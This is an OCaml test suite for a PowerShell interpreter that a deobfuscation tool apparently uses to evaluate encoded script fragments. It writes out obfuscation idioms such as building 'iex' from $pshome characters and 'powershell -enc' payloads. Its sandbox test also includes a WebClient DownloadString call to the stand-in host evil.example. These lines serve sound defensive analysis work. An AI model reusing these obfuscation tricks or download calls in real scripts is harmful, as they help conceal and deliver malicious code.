(* Tests for the interpreter: PowerShell semantics the recovery code
   depends on. *)

module Value = Psvalue.Value

let check_s = Alcotest.(check string)
let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)

let eval ?(mode = Pseval.Env.Recovery) src =
  let env = Pseval.Env.create ~mode () in
  match Pseval.Interp.invoke_piece env src with
  | Ok v -> v
  | Error msg -> Alcotest.fail (src ^ " -> " ^ msg)

let eval_err ?(mode = Pseval.Env.Recovery) src =
  let env = Pseval.Env.create ~mode () in
  match Pseval.Interp.invoke_piece env src with
  | Ok v -> Alcotest.fail (Format.asprintf "expected error, got %a" Value.pp v)
  | Error msg -> msg

let eval_str src = Value.to_string (eval src)
let eval_int src = Value.to_int (eval src)

(* ---------- string / arithmetic coercions ---------- *)

let test_concat () =
  check_s "str+str" "hello" (eval_str "'he'+'llo'");
  check_s "str+int" "a1" (eval_str "'a' + 1");
  check_s "char+char" "hi" (eval_str "[char]104 + [char]105");
  check_i "int+str coerces rhs" 10 (eval_int "5 + '5'")

let test_arithmetic () =
  check_i "mul" 15 (eval_int "5 * 3");
  check_s "string replication" "ababab" (eval_str "'ab' * 3");
  check_i "mod" 2 (eval_int "17 % 5");
  check_i "div exact" 4 (eval_int "8 / 2");
  check_b "div inexact is float" true
    (match eval "7 / 2" with Value.Float f -> f = 3.5 | _ -> false);
  check_s "division by zero" "operator error: division by zero" (eval_err "1/0")

let test_hex_string_conversion () =
  (* '0x4B' converts to 75 — the -bxor '0x4B' idiom *)
  check_i "hex string" 75 (eval_int "1 * '0x4B'");
  check_i "bxor hex" 40 (eval_int "99 -bxor '0x4B'")

let test_format_operator () =
  check_s "reorder" "write-host hello"
    (eval_str {|"{2}{0}{1}" -f 'ost h', 'ello', 'write-h'|});
  check_s "repeat index" "aba" (eval_str {|"{0}{1}{0}" -f 'a', 'b'|});
  check_s "escaped braces" "{x}" (eval_str {|"{{{0}}}" -f 'x'|});
  check_s "padding" "  7" (eval_str {|"{0,3}" -f 7|});
  check_s "hex format" "FF" (eval_str {|"{0:X2}" -f 255|})

let test_range_and_index () =
  check_s "range join" "12345" (eval_str "(1..5) -join ''");
  check_s "reverse index" "olleh" (eval_str "-join ('hello'[-1..-5])");
  check_s "index array" "Iex" (eval_str "$env:comspec[4,24,25] -join ''");
  check_b "out of range is null" true (eval "'abc'[99]" = Value.Null);
  check_s "pshome trick" "iex" (eval_str "$pshome[4]+$pshome[30]+'x'")

let test_split_join () =
  check_s "split rejoin" "a|b|c" (eval_str "('a,b,c' -split ',') -join '|'");
  check_s "chained split" "ab" (eval_str "(('a~b' -split '~') -split 'x') -join ''");
  check_s "unary split" "3" (eval_str "(-split 'a b  c').Length");
  check_s "unary join" "abc" (eval_str "-join ('a','b','c')");
  check_s "method split" "2" (eval_str "'a:b'.Split(':').Length")

let test_replace_ops () =
  check_s "-replace regex" "aXc" (eval_str "'abc' -replace 'b','X'");
  check_s "-replace caseless" "X" (eval_str "'A' -replace 'a','X'");
  check_s "-creplace case sensitive" "A" (eval_str "'A' -creplace 'a','X'");
  check_s ".Replace ordinal" "heLLo" (eval_str "'hello'.Replace('ll','LL')");
  check_s ".Replace case-sensitive" "hello" (eval_str "'hello'.Replace('LL','XX')")

let test_comparisons () =
  check_b "eq caseless" true (Value.to_bool (eval "'ABC' -eq 'abc'"));
  check_b "ceq sensitive" false (Value.to_bool (eval "'ABC' -ceq 'abc'"));
  check_b "lt" true (Value.to_bool (eval "1 -lt 2"));
  check_b "like wildcard" true (Value.to_bool (eval "'hello.ps1' -like '*.ps1'"));
  check_b "match regex" true (Value.to_bool (eval "'abc123' -match '\\d+'"));
  check_s "array filter" "2" (eval_str "((1,2,3) -eq 2) -join ''");
  check_b "contains" true (Value.to_bool (eval "(1,2,3) -contains 2"));
  check_b "in" true (Value.to_bool (eval "2 -in (1,2,3)"))

let test_logical_shortcircuit () =
  (* rhs must not evaluate when lhs decides *)
  check_b "and shortcircuit" false
    (Value.to_bool (eval "($false) -and ($undefined_variable)"));
  check_b "or shortcircuit" true
    (Value.to_bool (eval "($true) -or ($undefined_variable)"))

let test_bitwise () =
  check_i "band" 8 (eval_int "12 -band 10");
  check_i "bor" 14 (eval_int "12 -bor 10");
  check_i "bxor" 6 (eval_int "12 -bxor 10");
  check_i "shl" 8 (eval_int "1 -shl 3");
  check_i "shr" 2 (eval_int "16 -shr 3")

let test_variables_and_scope () =
  check_s "assign read" "xy" (eval_str "$a = 'x'; $b = $a + 'y'; $b");
  check_i "compound" 7 (eval_int "$i = 3; $i += 4; $i");
  check_i "increment" 6 (eval_int "$i = 5; $i++; $i");
  check_s "env variable" "C:\\WINDOWS\\system32\\cmd.exe" (eval_str "$env:comspec");
  check_b "undefined errors in recovery" true
    (String.length (eval_err "$nope") > 0);
  check_b "undefined is null in sandbox" true
    (let env = Pseval.Env.create ~mode:Pseval.Env.Sandbox () in
     match Pseval.Interp.invoke_piece env "$nope" with
     | Ok Value.Null -> true
     | _ -> false)

let test_expandable_strings () =
  check_s "interpolation" "v=5" (eval_str "$x = 5; \"v=$x\"");
  check_s "subexpr" "r:3" (eval_str "\"r:$(1+2)\"");
  check_s "env in string" "home C:\\Users\\user" (eval_str "\"home $env:userprofile\"");
  check_s "single quotes do not expand" "$x" (eval_str "'$x'")

let test_casts () =
  check_s "char of int" "h" (eval_str "[char]104");
  check_s "string of char" "'" (eval_str "[string][char]39");
  check_i "int of string" 42 (eval_int "[int]'42'");
  check_s "char array" "5" (eval_str "([char[]]'hello').Length");
  check_b "bool" true (Value.to_bool (eval "[bool]1"));
  check_b "unknown cast errors" true (String.length (eval_err "[madeuptype]'x'") > 0)

let test_statics () =
  check_s "frombase64+unicode" "hello"
    (eval_str "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aABlAGwAbABvAA=='))");
  check_s "ascii getstring" "hi"
    (eval_str "[Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('aGk='))");
  check_i "toint32 radix" 104 (eval_int "[convert]::ToInt32('1101000',2)");
  check_i "toint32 hex" 255 (eval_int "[convert]::ToInt32('ff',16)");
  check_s "string join" "a-b" (eval_str "[string]::Join('-', ('a','b'))");
  check_s "tobase64" "aGk=" (eval_str "[Convert]::ToBase64String([Text.Encoding]::ASCII.GetBytes('hi'))");
  check_s "array reverse" "cba"
    (eval_str "$a = [char[]]'abc'; [array]::Reverse($a); $a -join ''")

let test_string_methods () =
  check_s "substring" "ell" (eval_str "'hello'.Substring(1,3)");
  check_s "toupper" "HI" (eval_str "'hi'.ToUpper()");
  check_s "tochararray join" "h.i" (eval_str "'hi'.ToCharArray() -join '.'");
  check_i "length" 5 (eval_int "'hello'.Length");
  check_i "indexof caseless" 1 (eval_int "'hello'.IndexOf('E')");
  check_b "startswith prefix test" true
    (Value.to_bool (eval "'-encodedcommand'.StartsWith('-enc')"));
  check_s "trim" "x" (eval_str "'  x  '.Trim()");
  check_s "padleft" "  x" (eval_str "'x'.PadLeft(3)");
  check_s "insert" "abXcd" (eval_str "'abcd'.Insert(2,'X')")

let test_pipeline_foreach () =
  check_s "foreach-object" "cst"
    (eval_str "('99,115,116' -split ',' | ForEach-Object { [char][int]$_ }) -join ''");
  check_s "percent alias" "246" (eval_str "(1,2,3 | % { $_ * 2 }) -join ''");
  check_s "where-object" "13" (eval_str "(1,2,3 | Where-Object { $_ -ne 2 }) -join ''");
  (* each item gets its own one-element $input, even when a block
     rewrites it *)
  check_s "foreach-object $input" "1x,2x"
    (eval_str "(1,2 | ForEach-Object { $r = $input[0]; $input[0] = 'x'; \"$r$($input[0])\" }) -join ','");
  check_s "where-object $input" "3"
    (eval_str "(1,2,3 | Where-Object { $input[0] -gt 2 }) -join ''");
  check_s "foreach-object return" "12"
    (eval_str "(1,2 | ForEach-Object { return $_; 'skipped' }) -join ''");
  check_i "select first" 2 (eval_int "(1,2,3 | Select-Object -First 2).Length";);
  check_s "sort" "123" (eval_str "(3,1,2 | Sort-Object) -join ''")

let test_iex () =
  check_i "iex string" 42 (eval_int "iex '40 + 2'");
  check_i "iex pipeline" 9 (eval_int "'3 * 3' | iex");
  check_i "call operator" 7 (eval_int "& ('ie'+'x') '3+4'");
  check_i "dot call" 8 (eval_int ". ($pshome[4]+$pshome[30]+'x') '4+4'");
  check_b "iex depth limited" true
    (String.length (eval_err "$s = 'iex $s'; iex $s") > 0)

let test_powershell_enc () =
  let b64 = Encoding.Base64.encode (Encoding.Utf16.encode "5 * 5") in
  check_i "enc" 25 (eval_int ("powershell -enc " ^ b64));
  check_i "autocompleted param" 25 (eval_int ("powershell -EnCoDeDCommand " ^ b64));
  check_i "command param" 12 (eval_int "powershell -Command '6 + 6'")

let test_functions () =
  check_i "define and call" 9 (eval_int "function add($a, $b) { return $a + $b }; add 4 5");
  check_i "args array" 3 (eval_int "function n { $args.Count }; n 1 2 3");
  check_s "scriptblock invoke" "hi" (eval_str "$sb = { 'hi' }; $sb.Invoke()");
  check_i "scriptblock create" 5 (eval_int "[scriptblock]::Create('2 + 3').Invoke()")

let test_control_flow_eval () =
  check_s "if else" "b" (eval_str "if (1 -gt 2) { 'a' } else { 'b' }");
  check_i "while" 10 (eval_int "$i = 0; while ($i -lt 10) { $i++ }; $i");
  check_s "foreach stmt" "abc" (eval_str "$out = ''; foreach ($c in 'a','b','c') { $out += $c }; $out");
  check_i "for" 6 (eval_int "$s = 0; for ($i = 1; $i -le 3; $i++) { $s += $i }; $s");
  check_s "switch" "two" (eval_str "switch (2) { 1 { 'one' } 2 { 'two' } default { 'other' } }");
  check_s "try catch" "caught" (eval_str "try { throw 'x' } catch { 'caught' }");
  check_s "break" "12" (eval_str "$o=''; foreach ($i in 1..9) { if ($i -gt 2) { break }; $o += $i }; $o");
  check_s "continue" "13" (eval_str "$o=''; foreach ($i in 1..3) { if ($i -eq 2) { continue }; $o += $i }; $o")

let test_null_length () =
  (* PowerShell 3+: $null counts as no items, any other scalar as one *)
  check_i "$null.Count" 0 (eval_int "$null.Count");
  check_i "$null.Length" 0 (eval_int "$x = $null; $x.Length");
  check_i "scalar Count" 1 (eval_int "(5).Count");
  check_i "scalar Length" 1 (eval_int "$true.Length")

let test_securestring_marshal () =
  check_s "plaintext roundtrip" "secret"
    (eval_str
       "[Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR(('secret' | ConvertTo-SecureString -AsPlainText -Force)))");
  check_s "key blob roundtrip" "payload"
    (eval_str
       "$blob = ('payload' | ConvertTo-SecureString -AsPlainText -Force | ConvertFrom-SecureString); [Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR((ConvertTo-SecureString -String $blob -Key (0..31))))")

let test_deflate_stream () =
  let payload = "write-output 'inflated'" in
  let b64 = Encoding.Base64.encode (Encoding.Deflate.deflate payload) in
  check_s "deflate pipeline" payload
    (eval_str
       (Printf.sprintf
          "(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('%s'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"
          b64))

let test_side_effects_blocked_in_recovery () =
  check_b "download blocked" true
    (String.length (eval_err "(New-Object Net.WebClient).DownloadString('http://x')") > 0);
  check_b "sleep blocked" true (String.length (eval_err "Start-Sleep 5") > 0);
  check_b "process blocked" true (String.length (eval_err "Start-Process calc") > 0)

let test_side_effects_recorded_in_sandbox () =
  let env = Pseval.Env.create ~mode:Pseval.Env.Sandbox () in
  (match
     Pseval.Interp.run_script env
       "(New-Object Net.WebClient).DownloadString('http://evil.example/x') | Out-Null\nStart-Sleep 1"
   with
  | Ok _ -> ()
  | Error e -> Alcotest.fail e);
  let events = List.map Pseval.Env.event_to_string (Pseval.Env.events env) in
  check_b "http event" true
    (List.mem "http-get:http://evil.example/x" events);
  check_b "sleep event" true (List.mem "sleep:1" events)

let test_step_budget () =
  let limits = { Pseval.Env.default_limits with Pseval.Env.max_steps = 1000 } in
  let env = Pseval.Env.create ~limits () in
  check_b "infinite loop bounded" true
    (match Pseval.Interp.run_script env "while ($true) { $i++ }" with
    | Error _ -> true
    | Ok _ -> false)

let test_output_semantics () =
  check_b "assignment silent" true (eval "$x = 5" = Value.Null);
  check_s "multiple outputs collect" "1 2"
    (Value.to_string (eval "1; 2"));
  check_s "write-output passthrough" "7" (eval_str "write-output 7");
  check_b "out-null swallows" true (eval "5 | out-null" = Value.Null)

let test_multiple_assignment () =
  check_s "two targets" "ab" (eval_str "$a, $b = 'a', 'b'; $a + $b")

let test_named_blocks () =
  check_s "begin/process/end" "1 2 done"
    (eval_str
       "function f { begin { $n = 0 } process { $_ } end { 'done' } }\n(1,2 | f) -join ' '")

let test_split_count () =
  check_s "split with count" "a|b,c" (eval_str "('a,b,c' -split ',',2) -join '|'");
  check_s "split unlimited" "a|b|c" (eval_str "('a,b,c' -split ',') -join '|'")

let test_math_statics () =
  check_i "round" 4 (eval_int "[math]::Round(3.7)");
  check_i "min" 2 (eval_int "[math]::Min(2, 9)");
  check_i "max" 9 (eval_int "[math]::Max(2, 9)")

let test_url_decode_statics () =
  check_s "unescape" "write-host hi"
    (eval_str "[uri]::UnescapeDataString('write%2Dhost%20hi')");
  check_s "urldecode" "a b" (eval_str "[Net.WebUtility]::UrlDecode('a%20b')");
  check_s "escape roundtrip" "x&y"
    (eval_str "[uri]::UnescapeDataString([uri]::EscapeDataString('x&y'))")

(* ---------- per-element evaluation cost ---------- *)

(* The L3 decoder loops, (codes -split ',' | ForEach-Object { conv }) -join
   '', dominate piece recovery and the verify sandbox on encoded samples.
   Their step counts are part of the evaluator's contract (budgets and the
   recovery telemetry observe them); their allocation is what the
   per-element cost comes down to. *)

let decoder_shapes =
  (* name, radix, per-item conversion, steps at 2 000 elements *)
  [ ("ascii", Encoding.Digits.Decimal, "[char][int]$_", 11_758);
    ("hex", Encoding.Digits.Hex, "[char][convert]::ToInt32($_,16)", 13_758);
    ("binary", Encoding.Digits.Binary, "[char][convert]::ToInt32($_,2)", 14_750);
    ("bxor", Encoding.Digits.Decimal, "[char]($_ -bxor '0x2A')", 17_694) ]

let decoder_payload n = String.init n (fun i -> Char.chr (32 + (i * 7 mod 90)))

let decoder_source name radix conv n =
  let plain = decoder_payload n in
  let encoded =
    if name = "bxor" then String.map (fun c -> Char.chr (Char.code c lxor 0x2A)) plain
    else plain
  in
  let codes = String.concat "," (Encoding.Digits.encode_codes radix encoded) in
  Printf.sprintf "(('%s' -split ',' | ForEach-Object { %s }) -join '')" codes conv

(* minor words and steps of one run, the parse outside the window; in a
   domain of its own, whose counter sees only the run's allocation *)
let measured run =
  Domain.join
    (Domain.spawn (fun () ->
         let env = Pseval.Env.create () in
         let before = Gc.minor_words () in
         let result = run env in
         let words = Gc.minor_words () -. before in
         (result, env.Pseval.Env.steps, words)))

let parsed_once src =
  match Pseval.Interp.parse_piece src with
  | Ok _ as parsed -> parsed
  | Error msg -> Alcotest.fail ("parse: " ^ msg)

let test_decoder_element_cost () =
  let n = 2000 in
  List.iter
    (fun (name, radix, conv, steps) ->
      let src = decoder_source name radix conv n in
      let parsed = parsed_once src in
      (* plain, and under the payload probe that verify-on recovery runs *)
      let plain env = (Pseval.Interp.invoke_parsed env ~src parsed, None) in
      let probed env = Pseval.Interp.invoke_payload env ~src parsed in
      List.iter
        (fun (mode, run, recorded) ->
          let label = name ^ " " ^ mode in
          let (result, record), used, words = measured run in
          (match result with
          | Ok v -> check_s (label ^ " decodes") (decoder_payload n) (Value.to_string v)
          | Error msg -> Alcotest.fail (label ^ ": " ^ msg));
          check_b (label ^ " payload record") recorded (record <> None);
          check_i (label ^ " steps") steps used;
          let per_element = words /. float_of_int n in
          (* 9.5 (ascii) to 17.7 (hex, binary) words when measured, plain
             and probed alike; the ceiling is the highest plus 10% *)
          check_b
            (Printf.sprintf "%s allocates %.1f minor words per element" label
               per_element)
            true (per_element <= 19.5))
        [ ("plain", plain, false); ("probed", probed, true) ])
    decoder_shapes

(* An array longer than 256 words is made in the major heap.  Made full of
   a young value, as [Array.make], [Array.of_list], [Array.init] and
   [Array.map] make it, it makes the runtime empty the minor heap first.
   In a domain of its own, with a fresh minor heap and a major cycle just
   finished, building these arrays from young values collects nothing. *)
let test_large_arrays_collect_nothing () =
  let n = 10_000 in
  let subject = String.concat "," (List.init n string_of_int) in
  let env = Pseval.Env.create () in
  (* [prepare] makes the young inputs, [build] the array *)
  let collections prepare =
    Domain.join
      (Domain.spawn (fun () ->
           Gc.full_major ();
           let build = prepare () in
           let before = (Gc.quick_stat ()).Gc.minor_collections in
           let v = build () in
           let after = (Gc.quick_stat ()).Gc.minor_collections in
           ignore (Sys.opaque_identity v);
           after - before))
  in
  List.iter
    (fun (name, prepare) ->
      check_i (name ^ ": minor collections") 0 (collections prepare))
    [ ( "Value.of_list",
        fun () ->
          let items = List.init n (fun i -> Value.Str (string_of_int i)) in
          fun () -> Value.of_list items );
      ( "-split",
        fun () () -> Pseval.Ops.split_op env None (Value.Str subject) (Value.Str ",") );
      ( "1..10000",
        fun () () -> Pseval.Ops.range max_int (Value.Int 1) (Value.Int n) ) ]

let test_lower_folded_allocates_nothing () =
  let s = "already-lowercase $name" in
  ignore (Pscommon.Strcase.lower s);
  let before = Gc.minor_words () in
  for _ = 1 to 1000 do
    ignore (Sys.opaque_identity (Pscommon.Strcase.lower s))
  done;
  let words = Gc.minor_words () -. before in
  check_b (Printf.sprintf "allocated %.0f minor words" words) true (words = 0.0)

let test_loop_output_linear () =
  (* a loop's output is gathered in linear time: each iteration's words
     stay flat however many iterations came before *)
  let n = 16_000 in
  let src = Printf.sprintf "-join (foreach ($i in 1..%d) { [char](65 + $i %% 26) })" n in
  let expected = String.init n (fun k -> Char.chr (65 + ((k + 1) mod 26))) in
  let parsed = parsed_once src in
  let result, used, words =
    measured (fun env -> Pseval.Interp.invoke_parsed env ~src parsed)
  in
  (match result with
  | Ok v -> check_s "value" expected (Value.to_string v)
  | Error msg -> Alcotest.fail msg);
  check_i "steps" 185_009 used;
  let per_iteration = words /. float_of_int n in
  check_b
    (Printf.sprintf "allocates %.0f minor words per iteration" per_iteration)
    true (per_iteration <= 200.0)

(* ---------- one parse, many runs ---------- *)

(* The recovery cache memoises a piece's parse and runs it in a fresh env
   each time; every run must read exactly like evaluating the text. *)
let reusable_pieces =
  let default = Pseval.Env.default_limits.Pseval.Env.max_steps in
  (* name, source, step budget, how every run must read *)
  List.map
    (fun (name, radix, conv, _) ->
      (name, decoder_source name radix conv 200, default, "ok:"))
    decoder_shapes
  @ [ ("syntax error", "('a' + ", default, "error:syntax error at ");
      ("uncaught throw", "throw 'boom'", default, "error:uncaught throw: boom");
      ("step budget", "$(while (1 -lt 2) { 1 })", 500,
        "error:limit exceeded: step budget exhausted") ]

let observe_piece max_steps run =
  let limits = { Pseval.Env.default_limits with Pseval.Env.max_steps } in
  let env = Pseval.Env.create ~limits () in
  let result =
    match run env with Ok v -> "ok:" ^ Value.to_string v | Error e -> "error:" ^ e
  in
  (result, env.Pseval.Env.steps)

let test_parsed_piece_reusable () =
  List.iter
    (fun (name, src, max_steps, reads) ->
      let expected, steps =
        observe_piece max_steps (fun env -> Pseval.Interp.invoke_piece env src)
      in
      check_b (name ^ " reads " ^ reads) true
        (String.starts_with ~prefix:reads expected);
      let parsed = Pseval.Interp.parse_piece src in
      for i = 1 to 3 do
        let label = Printf.sprintf "%s run %d" name i in
        let got, used =
          observe_piece max_steps (fun env ->
              Pseval.Interp.invoke_parsed env ~src parsed)
        in
        check_s (label ^ " result") expected got;
        check_i (label ^ " steps") steps used
      done)
    reusable_pieces;
  (* the interp.eval probe comes before a stored parse error *)
  Pscommon.Chaos.set
    (Some { Pscommon.Chaos.seed = 3; rate = 0.0; site_rates = [ ("interp.eval", 1.0) ] });
  let faulted =
    Fun.protect ~finally:(fun () -> Pscommon.Chaos.set None) @@ fun () ->
    match
      Pseval.Interp.invoke_parsed (Pseval.Env.create ()) ~src:"('a' + "
        (Pseval.Interp.parse_piece "('a' + ")
    with
    | _ -> false
    | exception _ -> true
  in
  check_b "probe drawn before the syntax error" true faulted;
  (* the recovery cache's piece tier answers the second pass *)
  let module R = Deobf.Recover in
  let tier = Pscommon.Telemetry.Metrics.counter "recover.cache.tier.piece" in
  let script = "$x = 'he' + 'llo'\nWrite-Output ([char]72 + [char]105)" in
  let ast =
    match Psparse.Parser.parse script with
    | Ok ast -> ast
    | Error _ -> Alcotest.fail "script parse"
  in
  let cache = R.Cache.create () in
  let pass () =
    ignore
      (R.run_pass
         ~opts:{ R.default_options with R.use_piece_cache = false }
         ~stats:(R.new_stats ()) ~cache
         ~deobfuscate:(fun ~depth:_ s -> s)
         ~depth:0 ~ast script);
    Pscommon.Telemetry.Metrics.counter_value tier
  in
  let first = pass () in
  let second = pass () in
  check_b "piece tier hit on the second pass" true (second > first)

(* ---------- environment templates ---------- *)

(* [Env.create] copies two tables built once (the automatic variables and
   the $env: drive): whatever one environment writes must stay in it *)
let default_reads env =
  let read name =
    Option.map Value.to_string
      (Pseval.Env.get_var env (Psparse.Names.var_key name))
  in
  [ read "pshome"; read "ErrorActionPreference"; read "env:TEMP";
    read "env:NEWNAME";
    Some (string_of_int (Hashtbl.length env.Pseval.Env.functions));
    Some (string_of_int (List.length (Pseval.Env.global_bindings env))) ]

let defaults =
  [ Some "C:\\Windows\\System32\\WindowsPowerShell\\v1.0"; Some "Continue";
    Some "C:\\Users\\user\\AppData\\Local\\Temp";
    Some "" (* an unset $env: name reads empty *); Some "0"; Some "0" ]

let defaults_hold env = default_reads env = defaults

let test_env_templates_independent () =
  Alcotest.(check (list (option string)))
    "a fresh env reads the defaults" defaults
    (default_reads (Pseval.Env.create ()));
  let env = Pseval.Env.create ~mode:Pseval.Env.Sandbox () in
  (match
     Pseval.Interp.run_script env
       "$env:TEMP = 'D:\\t'; $env:NEWNAME = 'n'\n\
        $pshome = 'X'; $ErrorActionPreference = 'Stop'\n\
        function Get-It { 1 }\n\
        $env:TEMP + $env:NEWNAME + $pshome + (Get-It)"
   with
  | Ok [ v ] -> check_s "the env sees its own writes" "D:\\tnX1" (Value.to_string v)
  | _ -> Alcotest.fail "script failed");
  Alcotest.(check (list (option string)))
    "every write landed in the writing env"
    [ Some "X"; Some "Stop"; Some "D:\\t"; Some "n"; Some "1"; Some "2" ]
    (default_reads env);
  check_b "a later env still reads the defaults" true
    (defaults_hold (Pseval.Env.create ()));
  (* the templates are shared by every domain *)
  let worker () =
    List.for_all
      (fun _ -> defaults_hold (Pseval.Env.create ()))
      (List.init 2000 Fun.id)
  in
  let d1 = Domain.spawn worker and d2 = Domain.spawn worker in
  check_b "domain 1 reads the defaults" true (Domain.join d1);
  check_b "domain 2 reads the defaults" true (Domain.join d2)

(* ---------- pipeline cursors ---------- *)

(* ForEach-Object and Where-Object bind [$_] and [$input] once per item
   where an assignment would: the binding visible from the caller's scope,
   else a new one there.  When the stage ends, at any nesting level, each
   cursor gets back the value it had before, or is unset again.  Each case
   pins the output, the cursors and the global bindings left behind, and
   the steps charged. *)
let cursor_cases =
  let open Pseval.Env in
  [ (Sandbox,
      "$inner = { \"$o$_\" }; 1..2 | ForEach-Object { $o = $_; 'a','b' | ForEach-Object $inner; $_ }; $_",
      "\"1a\",\"1b\",1,\"2a\",\"2b\",2 | $_=- $input=- | inner={ \"$o$_\" };o=2 | 45");
    (* a script block literal nested in a block reads its text from the
       source the outer block was sliced from *)
    (Sandbox, "1..2 | ForEach-Object { $o = $_; 'a','b' | ForEach-Object { \"$o$_\" } }",
      "\"1a\",\"1b\",\"2a\",\"2b\" | $_=- $input=- | o=2 | 36");
    (* the outer block gets its cursors back however the nested pipeline
       ends *)
    (Sandbox,
      "1..2 | ForEach-Object { 'a','b' | ForEach-Object { throw $_ } }",
      "error: uncaught throw: a | $_=- $input=- |  | 16");
    (Sandbox, "5..7 | Where-Object { ('p','q' | Where-Object { $_ -eq 'q' }) -and $_ -gt 5 }; $_",
      "6,7 | $_=- $input=- |  | 74");
    (Sandbox, "1..3 | ForEach-Object { $_ = $_ * 10; $_ }",
      "10,20,30 | $_=- $input=- |  | 30");
    (Sandbox, "1..3 | ForEach-Object { $_ } | Out-Null; $_",
      " | $_=- $input=- |  | 17");
    (Sandbox, "1..3 | ForEach-Object { $_ } | Out-Null; \"after: $_\"",
      "\"after: \" | $_=- $input=- |  | 17");
    (Sandbox, "function f { 1..3 | ForEach-Object { $_ + 1 } }; f; $_",
      "2,3,4 | $_=- $input=- |  | 25");
    (Recovery, "function f { 1..3 | ForEach-Object { $_ + 1 } }; f; $_",
      "error: evaluation error: undefined variable $_ | $_=- $input=- |  | 25");
    (Sandbox, "$_ = 'g'; function f { 1..2 | ForEach-Object { $_ } }; f; $_",
      "1,2,\"g\" | $_=\"g\" $input=- |  | 19");
    (Sandbox, "1..6 | Where-Object { $_ % 2 -eq 0 }; $_",
      "2,4,6 | $_=- $input=- |  | 51");
    (Sandbox, "$true = 5; function g { $pshome = 'Y' }; g; $pshome; $true",
      "\"Y\",5 | $_=- $input=- | pshome=\"Y\";true=5 | 13");
    (Sandbox, "'x','y' | ForEach-Object { $input }; $input",
      "\"x\",\"y\" | $_=- $input=- |  | 14");
    (* a function call per item creates bindings: the cursors resolve again *)
    (Sandbox, "function h($v) { $v * 2 }; 1..3 | ForEach-Object { h $_ }; $_",
      "2,4,6 | $_=- $input=- |  | 30");
    (* a binding the block creates shadows the one the cursor resolved *)
    (Sandbox,
      "$_ = 0; function k { 1..3 | ForEach-Object { $local:_ = 'L'; $_ } }; k; $_",
      "\"L\",\"L\",\"L\",0 | $_=0 $input=- |  | 31");
    (Sandbox, "1..3 | ForEach-Object { $global:_ = 'G'; $_ }; $_",
      "\"G\",\"G\",\"G\" | $_=- $input=- |  | 26") ]

let test_pipeline_cursors () =
  let show v = Format.asprintf "%a" Value.pp v in
  List.iter
    (fun (mode, src, expected) ->
      let env = Pseval.Env.create ~mode () in
      let result =
        match Pseval.Interp.run_script env src with
        | Ok out -> String.concat "," (List.map show out)
        | Error e -> "error: " ^ e
      in
      let cursor k =
        match Pseval.Env.get_var env k with Some v -> show v | None -> "-"
      in
      let globals =
        String.concat ";"
          (List.map
             (fun (k, v) -> k ^ "=" ^ show v)
             (Pseval.Env.global_bindings env))
      in
      check_s src expected
        (Printf.sprintf "%s | $_=%s $input=%s | %s | %d" result
           (cursor Pseval.Env.item_var) (cursor Pseval.Env.input_var) globals
           env.Pseval.Env.steps))
    cursor_cases

(* ---------- evaluator golden digest ---------- *)

(* What the evaluator computes over small seeded corpus slices, folded into
   one digest: for every recoverable piece of every sample and of every
   layer it decodes, the result or error text, the charged steps and the
   cursor bindings left behind, run plain and under a payload probe (with
   the payload record the probe makes); for every sample, the sandbox
   reference run's whole final state with and without the payloads the
   engine run decoded, and the verify effect logs of input and output.  A
   change to the evaluator that keeps its behaviour keeps the digest; one
   that means to change it updates the constant and says why. *)

let evaluator_digest = "af07b2a6bf213651af029c8337cfe565"

let rec show_value buf (v : Value.t) =
  match v with
  | Float f -> Buffer.add_string buf (Printf.sprintf "%h" f)
  | Arr a ->
      Buffer.add_string buf "@(";
      Array.iter (fun x -> show_value buf x; Buffer.add_char buf ',') a;
      Buffer.add_char buf ')'
  | Hash pairs ->
      Buffer.add_string buf "@{";
      List.iter
        (fun (k, x) ->
          show_value buf k;
          Buffer.add_char buf '=';
          show_value buf x;
          Buffer.add_char buf ';')
        pairs;
      Buffer.add_char buf '}'
  | v -> Buffer.add_string buf (Format.asprintf "%a" Value.pp v)

let add_line buf label parts =
  Buffer.add_string buf label;
  List.iter (fun p -> Buffer.add_char buf ' '; Buffer.add_string buf p) parts;
  Buffer.add_char buf '\n'

let value_text v =
  let b = Buffer.create 64 in
  show_value b v;
  Buffer.contents b

let bindings_text bs =
  String.concat ";" (List.map (fun (k, v) -> k ^ "=" ^ value_text v) bs)

let cursor_text env =
  List.map
    (fun k ->
      match Pseval.Env.get_var env k with
      | Some v -> value_text v
      | None -> "-")
    [ Pseval.Env.item_var; Pseval.Env.input_var ]

let golden_piece_limits =
  { Pseval.Env.default_limits with Pseval.Env.max_steps = 400_000 }

let seeded_env seeds =
  let env = Pseval.Env.create ~limits:golden_piece_limits () in
  List.iter
    (fun (name, v) -> Pseval.Env.set_var env (Psparse.Names.var_key name) v)
    seeds;
  env

let result_text = function
  | Ok v -> "ok " ^ value_text v
  | Error e -> "error " ^ e

(* the pieces recovery would evaluate in [src]: every recoverable node, and
   the stages before the last of every pipeline *)
let golden_pieces src ast =
  let module A = Psast.Ast in
  A.fold_pre_order
    (fun acc (n : A.t) ->
      match n.A.node with
      | (A.Pipeline _ | A.Unary_expr _ | A.Binary_expr _ | A.Convert_expr _
        | A.Invoke_member _ | A.Sub_expr _)
        when A.children n <> [] -> (
          let acc = A.text src n :: acc in
          match n.A.node with
          | A.Pipeline (first :: (_ :: _ as rest)) ->
              let stop = List.nth (first :: rest) (List.length rest - 1) in
              Pscommon.Extent.text src
                (Pscommon.Extent.union first.A.extent stop.A.extent)
              :: acc
          | _ -> acc)
      | _ -> acc)
    [] ast
  |> List.rev

let rec fold_pieces buf ~seeds ~seen ~depth src =
  match Psparse.Parser.parse src with
  | Error _ -> add_line buf "unparsed" [ string_of_int (String.length src) ]
  | Ok ast ->
      List.iter
        (fun text ->
          if not (Hashtbl.mem seen text) then begin
            Hashtbl.replace seen text ();
            let parsed = Pseval.Interp.parse_piece text in
            let env = seeded_env seeds in
            let plain = Pseval.Interp.invoke_parsed env ~src:text parsed in
            add_line buf "piece"
              ([ result_text plain; string_of_int env.Pseval.Env.steps ]
              @ cursor_text env);
            let env = seeded_env seeds in
            let probed, record =
